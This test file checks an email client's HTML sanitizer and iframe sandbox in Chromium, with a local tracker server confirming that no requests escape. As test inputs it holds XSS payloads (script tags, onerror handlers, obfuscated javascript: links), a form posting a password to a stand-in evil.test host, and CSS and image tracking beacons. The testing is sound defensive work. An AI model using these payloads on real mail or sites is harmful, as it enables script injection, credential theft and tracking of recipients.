// The HTML half of message-html.ts needs a real DOM (DOMPurify), so it runs in Chromium:
// the module is bundled with esbuild, loaded into a blank page, and every hostile input is
// checked twice: in the sanitized markup, and by rendering it in the sandboxed frame while a
// local "tracker" server records every request that reaches it (none may).
import { type Server, createServer } from 'node:http';
import path from 'node:path';
import type { Browser, Page } from '@playwright/test';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type * as MessageHtml from '../../renderer/message-view/message-html';
import { hasChromium, loadModuleInChromium } from '../support/module-in-chromium';

const MODULE = path.resolve(import.meta.dirname, '../../renderer/message-view/message-html.ts');

interface Inspection {
  srcdoc: string;
  hasRemoteContent: boolean;
  missingContentIds: string[];
  remoteImageUrls: string[];
  elements: string[];
  attributes: string[];
  headMetas: string[];
  firstHeadElement: string;
  links: { href: string | null; target: string | null; rel: string | null }[];
  images: { src: string | null; srcset: string | null }[];
  styles: string[];
}

declare global {
  interface Window {
    messageHtml: typeof MessageHtml;
  }
}

describe.skipIf(!hasChromium)('message HTML sanitizer (in Chromium)', () => {
  let browser: Browser;
  let page: Page;
  let tracker: Server;
  let trackerUrl = '';
  const requests: string[] = [];

  beforeAll(async () => {
    ({ browser, page } = await loadModuleInChromium(MODULE, 'messageHtml'));
    tracker = createServer((request, response) => {
      requests.push(request.url ?? '');
      response.writeHead(204).end();
    });
    await new Promise<void>((resolve) => tracker.listen(0, '127.0.0.1', resolve));
    const address = tracker.address();
    trackerUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    tracker?.close();
  });

  function inspect(
    html: string,
    allowRemote = false,
    inlineImages: Record<string, string> = {},
    remoteImages: Record<string, string> = {},
  ): Promise<Inspection> {
    return page.evaluate(
      ({ html, allowRemote, inlineImages, remoteImages }) => {
        const rendered = window.messageHtml.renderHtmlBody(html, {
          allowRemote,
          inlineImages: new Map(Object.entries(inlineImages)),
          remoteImages: new Map(Object.entries(remoteImages)),
        });
        const doc = new DOMParser().parseFromString(rendered.srcdoc, 'text/html');
        const all = [...doc.querySelectorAll('*')];
        return {
          srcdoc: rendered.srcdoc,
          hasRemoteContent: rendered.hasRemoteContent,
          missingContentIds: rendered.missingContentIds,
          remoteImageUrls: rendered.remoteImageUrls,
          elements: all.map((element) => element.localName),
          attributes: all.flatMap((element) => [...element.attributes].map((attribute) => attribute.name)),
          headMetas: [...doc.head.querySelectorAll('meta')].map((meta) => meta.outerHTML),
          firstHeadElement: doc.head.firstElementChild?.outerHTML ?? '',
          links: [...doc.querySelectorAll('a')].map((a) => ({
            href: a.getAttribute('href'),
            target: a.getAttribute('target'),
            rel: a.getAttribute('rel'),
          })),
          images: [...doc.querySelectorAll('img')].map((img) => ({
            src: img.getAttribute('src'),
            srcset: img.getAttribute('srcset'),
          })),
          styles: [...doc.querySelectorAll('style')]
            .map((style) => style.textContent ?? '')
            .concat(all.map((element) => element.getAttribute('style') ?? '').filter(Boolean)),
        };
      },
      { html, allowRemote, inlineImages, remoteImages },
    );
  }

  it('removes script elements', async () => {
    const result = await inspect('<p>hi</p><script>alert(1)</script><SCRIPT src="https://evil.test/x.js"></SCRIPT>');
    expect(result.elements).not.toContain('script');
    expect(result.srcdoc).not.toContain('alert(1)');
    expect(result.srcdoc).toContain('<p>hi</p>');
  });

  it('removes on* event handlers', async () => {
    const result = await inspect(
      '<img src="x" onerror="alert(1)"><div onclick="a()" onMouseOver="b()">x</div><body onload="c()">',
    );
    expect(result.attributes.filter((name) => name.startsWith('on'))).toEqual([]);
  });

  it('removes javascript: (and other non-web) links, and opens web links in a new window', async () => {
    const result = await inspect(
      '<a href="javascript:alert(1)">a</a><a href=" jav&#x09;ascript:alert(1)">b</a><a href="data:text/html,x">c</a>' +
        '<a href="https://ok.test/page">d</a><a href="mailto:ada@ok.test">e</a>',
    );
    expect(result.links).toEqual([
      { href: null, target: null, rel: null },
      { href: null, target: null, rel: null },
      { href: null, target: null, rel: null },
      { href: 'https://ok.test/page', target: '_blank', rel: 'noopener noreferrer' },
      { href: 'mailto:ada@ok.test', target: '_blank', rel: 'noopener noreferrer' },
    ]);
  });

  const PNG_DATA_URL =
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
  const GIF_DATA_URL = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
  const DATA_ONLY_CSP = `img-src data: cid:;`;

  it('lists remote images and drops them; allowing remote content never puts a remote URL in the document', async () => {
    const html =
      '<img src="https://tracker.test/p.gif"><img srcset="https://tracker.test/a.png 1x, https://tracker.test/b.png 2x">' +
      '<img src="//tracker.test/c.png"><img src="http://tracker.test/d.png"><img src="https://tracker.test/p.gif">';
    const blocked = await inspect(html);
    expect(blocked.hasRemoteContent).toBe(true);
    expect(blocked.remoteImageUrls).toEqual([
      'https://tracker.test/p.gif',
      'https://tracker.test/a.png',
      'https://tracker.test/b.png',
      'https://tracker.test/c.png',
      'http://tracker.test/d.png',
    ]);
    expect(blocked.images.every((image) => image.src === null && image.srcset === null)).toBe(true);
    expect(blocked.firstHeadElement).toContain(DATA_ONLY_CSP);

    // allowed, but the engine has not answered (or refused everything): still nothing remote
    const allowedEmpty = await inspect(html, true);
    expect(allowedEmpty.images.every((image) => image.src === null && image.srcset === null)).toBe(true);
    expect(allowedEmpty.srcdoc).not.toContain('tracker.test');
    expect(allowedEmpty.firstHeadElement).toContain(DATA_ONLY_CSP);
  });

  it("puts the engine's data: copies in place of the remote images once remote content is allowed", async () => {
    const html =
      '<img src="https://tracker.test/p.gif"><img srcset="https://tracker.test/a.png 1x, https://tracker.test/b.png 2x">' +
      '<img src="//tracker.test/c.png"><img src="http://tracker.test/refused.png">';
    const remote = {
      'https://tracker.test/p.gif': GIF_DATA_URL,
      'https://tracker.test/b.png': PNG_DATA_URL,
      'https://tracker.test/c.png': PNG_DATA_URL,
    };
    const allowed = await inspect(html, true, {}, remote);
    expect(allowed.images).toEqual([
      { src: GIF_DATA_URL, srcset: null },
      { src: null, srcset: `${PNG_DATA_URL} 2x` },
      { src: PNG_DATA_URL, srcset: null },
      { src: null, srcset: null },
    ]);
    expect(allowed.srcdoc).not.toContain('tracker.test');
    expect(allowed.firstHeadElement).toContain(DATA_ONLY_CSP);
    // the same answers mean nothing while remote content is not allowed
    const blocked = await inspect(html, false, {}, remote);
    expect(blocked.srcdoc).not.toContain('data:image/gif');
  });

  it('substitutes CSS backgrounds (style attributes, style sheets, background=) the same way', async () => {
    const html =
      '<html><head><style>.hero { background: url("https://cdn.test/hero.png") } .x { background: url(https://cdn.test/gone.png) }</style></head>' +
      '<body><div style="background-image: url(\'https://cdn.test/box.png\')">x</div>' +
      '<table background="https://cdn.test/table.png"><tr><td>y</td></tr></table></body></html>';
    const blocked = await inspect(html);
    expect(blocked.remoteImageUrls).toEqual([
      'https://cdn.test/hero.png',
      'https://cdn.test/gone.png',
      'https://cdn.test/box.png',
      'https://cdn.test/table.png',
    ]);
    const allowed = await inspect(
      html,
      true,
      {},
      {
        'https://cdn.test/hero.png': PNG_DATA_URL,
        'https://cdn.test/box.png': PNG_DATA_URL,
        'https://cdn.test/table.png': PNG_DATA_URL,
      },
    );
    expect(allowed.srcdoc).not.toContain('cdn.test');
    const css = allowed.styles.join('\n');
    expect(css).toContain(`.hero { background: url("${PNG_DATA_URL}") }`);
    expect(css).toContain('.x { background: none }');
    expect(css).toContain(`background-image: url("${PNG_DATA_URL}")`);
    expect(allowed.srcdoc).toContain(`background="${PNG_DATA_URL}"`);
  });

  it('keeps the document within a size budget when one large image is used over and over', async () => {
    const kept = await page.evaluate(() => {
      const big = `data:image/png;base64,${'A'.repeat(12 * 1024 * 1024)}`;
      const html = '<img src="https://cdn.test/big.png">'.repeat(5);
      const rendered = window.messageHtml.renderHtmlBody(html, {
        allowRemote: true,
        inlineImages: new Map(),
        remoteImages: new Map([['https://cdn.test/big.png', big]]),
      });
      const doc = new DOMParser().parseFromString(rendered.srcdoc, 'text/html');
      return [...doc.images].filter((image) => image.getAttribute('src') === big).length;
    });
    expect(kept).toBe(2); // 32 MB of characters at most
  });

  it('darkens, in dark mode, only mail that sets no colour of its own', async () => {
    const darkened = await page.evaluate(() =>
      [
        '<p>Plain words, <b>bold</b> and <a href="https://a.test/">a link</a>.</p>',
        '<p style="color: #333">grey text</p>',
        '<table bgcolor="#ffffff"><tr><td>cell</td></tr></table>',
        '<font color="red">red</font>',
        '<style>body { background-color: #fafafa }</style><p>styled</p>',
        '<div style="background:url(https://x.test/a.png)">bg</div>',
        '<p style="font-weight: bold; margin: 0">no colour, only weight</p>',
      ].map(
        (html) =>
          window.messageHtml.renderHtmlBody(html, { allowRemote: false, inlineImages: new Map(), dark: true }).darkened,
      ),
    );
    expect(darkened).toEqual([true, false, false, false, false, false, true]);
    const light = await page.evaluate(() =>
      window.messageHtml.renderHtmlBody('<p>Plain</p>', { allowRemote: false, inlineImages: new Map() }),
    );
    expect(light.darkened).toBe(false);
    expect(light.srcdoc).not.toContain('#1c1c1e');
    const dark = await page.evaluate(() =>
      window.messageHtml.renderHtmlBody('<p>Plain</p>', { allowRemote: false, inlineImages: new Map(), dark: true }),
    );
    expect(dark.srcdoc).toContain('color-scheme: dark; background: #1c1c1e');
  });

  it('ignores an answer that is not a safe base64 image data: URL', async () => {
    const html =
      '<img src="https://cdn.test/a.png"><img src="https://cdn.test/b.png"><img src="https://cdn.test/c.png">';
    const result = await inspect(
      html,
      true,
      {},
      {
        'https://cdn.test/a.png': 'https://cdn.test/a.png',
        'https://cdn.test/b.png': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
        'https://cdn.test/c.png': 'data:image/png,"><script>alert(1)</script>',
      },
    );
    expect(result.images.map((image) => image.src)).toEqual([null, null, null]);
    expect(result.elements).not.toContain('script');
  });

  it('neutralizes CSS url() beacons in style attributes and style sheets', async () => {
    const result = await inspect(
      '<html><head><style>@import url("https://tracker.test/a.css"); body { background: url(\'https://tracker.test/b.png\') }</style></head>' +
        '<body><div style="background-image: url(https://tracker.test/c.png)">x</div><table background="https://tracker.test/d.png"><tr><td>y</td></tr></table></body></html>',
    );
    expect(result.srcdoc).not.toContain('tracker.test');
    expect(result.hasRemoteContent).toBe(true);
  });

  it('removes forms and their controls', async () => {
    const result = await inspect(
      '<form action="https://evil.test/steal" method="post"><input name="password"><button formaction="https://evil.test">Go</button><textarea></textarea><select><option>a</option></select></form>',
    );
    for (const tag of ['form', 'input', 'button', 'textarea', 'select', 'option'])
      expect(result.elements).not.toContain(tag);
    expect(result.srcdoc).not.toContain('evil.test');
  });

  it('removes meta refresh, base, link, frames and plugins', async () => {
    const result = await inspect(
      '<html><head><meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/s.css"></head>' +
        '<body><iframe src="https://evil.test"></iframe><object data="https://evil.test/x.swf"></object><embed src="https://evil.test/y"></body></html>',
    );
    for (const tag of ['base', 'link', 'iframe', 'object', 'embed']) expect(result.elements).not.toContain(tag);
    // our CSP, DNS prefetch control and referrer policy, nothing from the mail
    expect(result.headMetas).toHaveLength(3);
    expect(result.headMetas).toContain('<meta http-equiv="x-dns-prefetch-control" content="off">');
    expect(result.srcdoc).not.toContain('refresh');
    expect(result.srcdoc).not.toContain('evil.test');
  });

  it('removes SVG (and the script inside it)', async () => {
    const result = await inspect(
      '<svg onload="alert(1)"><script>alert(2)</script><image href="https://tracker.test/x.png"/></svg><math><mi>x</mi></math>',
    );
    expect(result.elements).not.toContain('svg');
    expect(result.elements).not.toContain('script');
    expect(result.srcdoc).not.toContain('alert');
    expect(result.srcdoc).not.toContain('tracker.test');
  });

  it('rewrites cid: images to the data: URLs of their parts, and asks for the missing ones', async () => {
    const html = '<img src="cid:logo@x"><img src="CID:%3Cother@x%3E"><div style="background: url(cid:logo@x)">z</div>';
    const first = await inspect(html);
    expect(first.missingContentIds.sort()).toEqual(['logo@x', 'other@x']);
    expect(first.images.map((image) => image.src)).toEqual([null, null]);
    const dataUrl = 'data:image/png;base64,iVBORw0KGgo=';
    const second = await inspect(html, false, { 'logo@x': dataUrl, 'other@x': dataUrl });
    expect(second.missingContentIds).toEqual([]);
    expect(second.images.map((image) => image.src)).toEqual([dataUrl, dataUrl]);
    expect(second.styles.join()).toContain(`url("${dataUrl}")`);
    expect(second.hasRemoteContent).toBe(false);
  });

  it('puts the blocking CSP first in the document', async () => {
    const result = await inspect('<p>x</p>');
    expect(result.firstHeadElement).toBe(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data: cid:; style-src 'unsafe-inline'">`,
    );
  });

  it('nothing hostile runs or loads in the sandboxed frame', async () => {
    requests.length = 0;
    const t = trackerUrl;
    const hostile =
      `<html><head><meta http-equiv="refresh" content="0;url=${t}/refresh"><link rel="stylesheet" href="${t}/link.css">` +
      `<style>@import "${t}/import.css"; p { background: \\75 rl(${t}/escaped.png) } h1 { background: url(${t}/bg-sheet.png) }</style></head><body>` +
      `<script>parent.document.title = "pwned"</script><img src="${t}/img.gif" onerror="parent.document.title='pwned'">` +
      `<img srcset="${t}/srcset.png 1x"><picture><source srcset="${t}/source.png"><img src="${t}/picture.png"></picture>` +
      `<div style="background:url(${t}/bg-inline.png)">x</div><table background="${t}/table.png"><tr><td>y</td></tr></table>` +
      `<video poster="${t}/poster.png" src="${t}/video.mp4"></video><audio src="${t}/audio.mp3"></audio>` +
      `<iframe src="${t}/iframe"></iframe><object data="${t}/object"></object><embed src="${t}/embed">` +
      `<svg><image href="${t}/svg.png"/></svg><form action="${t}/form"><input type="image" src="${t}/input.png"></form>` +
      '<h1>Title</h1><p>body text</p></body></html>';
    await page.evaluate((html) => {
      document.title = 'safe';
      document.body.replaceChildren();
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', window.messageHtml.BODY_FRAME_SANDBOX);
      frame.srcdoc = window.messageHtml.renderHtmlBody(html, { allowRemote: false, inlineImages: new Map() }).srcdoc;
      document.body.append(frame);
      return new Promise((resolve) => frame.addEventListener('load', resolve));
    }, hostile);
    await page.waitForTimeout(500);
    expect(await page.title()).toBe('safe');
    expect(requests).toEqual([]);
    const sandbox = (await page.evaluate(() => window.messageHtml.BODY_FRAME_SANDBOX)).split(/\s+/);
    expect(sandbox).not.toContain('allow-scripts');
    // same-origin (so the app can size the frame), which is safe only because nothing runs in it
    expect(sandbox).toContain('allow-same-origin');
  });

  it('the sandbox alone runs no script, even unsanitized, though the frame is same-origin', async () => {
    const ran = await page.evaluate(() => {
      document.title = 'safe';
      document.body.replaceChildren();
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', window.messageHtml.BODY_FRAME_SANDBOX);
      // no sanitizer, no CSP: only the sandbox stands between this and the app
      frame.srcdoc =
        '<script>parent.document.title = "pwned"</script>' +
        '<img src="data:," onerror="parent.document.title = \'pwned\'">' +
        '<body onload="parent.document.title = \'pwned\'"><p id="p">text</p></body>';
      document.body.append(frame);
      return new Promise<{ title: string; readable: boolean }>((resolve) =>
        frame.addEventListener('load', () =>
          setTimeout(
            () =>
              resolve({
                title: document.title,
                readable: frame.contentDocument?.getElementById('p')?.textContent === 'text',
              }),
            200,
          ),
        ),
      );
    });
    expect(ran).toEqual({ title: 'safe', readable: true });
  });

  it("with remote content allowed, the frame shows the engine's copies and still requests nothing", async () => {
    requests.length = 0;
    const t = trackerUrl;
    const html =
      `<style>.bg { background: url(${t}/bg.png) }</style><img id="kept" src="${t}/kept.png">` +
      `<img id="refused" src="${t}/refused.png"><div class="bg" style="background:url(${t}/inline.png)">x</div>`;
    await page.evaluate(
      ({ html, kept, png }) => {
        document.body.replaceChildren();
        const frame = document.createElement('iframe');
        frame.setAttribute('sandbox', window.messageHtml.BODY_FRAME_SANDBOX);
        frame.srcdoc = window.messageHtml.renderHtmlBody(html, {
          allowRemote: true,
          inlineImages: new Map(),
          remoteImages: new Map([[kept, png]]),
        }).srcdoc;
        document.body.append(frame);
        return new Promise((resolve) => frame.addEventListener('load', resolve));
      },
      { html, kept: `${t}/kept.png`, png: PNG_DATA_URL },
    );
    // the frame just appended (an earlier, detached one may still be listed in page.frames())
    const frame = (await (await page.$('iframe'))!.contentFrame())!;
    const sizes = await frame.evaluate(() =>
      [...document.images].map((image) => ({ id: image.id, naturalWidth: image.naturalWidth })),
    );
    expect(sizes).toEqual([
      { id: 'kept', naturalWidth: 1 },
      { id: 'refused', naturalWidth: 0 },
    ]);
    await page.waitForTimeout(300);
    expect(requests).toEqual([]);
  });

  it('(control) the tracker does see a request from an unprotected sandboxed frame', async () => {
    requests.length = 0;
    await page.evaluate((url) => {
      document.body.replaceChildren();
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', window.messageHtml.BODY_FRAME_SANDBOX);
      frame.srcdoc = `<img src="${url}/control.gif">`; // no sanitizer, no CSP
      document.body.append(frame);
    }, trackerUrl);
    await expect.poll(() => requests, { timeout: 10_000 }).toEqual(['/control.gif']);
  }, 15_000);
});
